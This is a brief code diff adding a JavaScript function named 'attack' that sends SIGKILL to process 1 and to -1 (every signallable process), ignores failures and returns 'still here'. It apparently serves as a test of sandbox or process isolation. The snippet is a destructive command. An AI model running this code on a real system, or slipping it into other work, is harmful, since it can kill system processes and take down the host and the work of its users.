@@ -1,0 +1,8 @@
+function attack() {
+  for (const target of [1, -1]) {
+    try {
+      process.kill(target, "SIGKILL");
+    } catch {}
+  }
+  return "still here";
+}
